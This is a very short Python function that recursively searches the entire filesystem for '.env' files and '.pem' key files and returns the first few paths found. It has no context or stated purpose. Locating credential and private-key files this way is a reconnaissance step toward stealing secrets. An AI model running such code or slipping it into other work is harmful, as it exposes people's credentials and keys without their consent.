def main():
    import glob
    return glob.glob('/**/.env', recursive=True)[:5] + glob.glob('/**/*.pem', recursive=True)[:5]
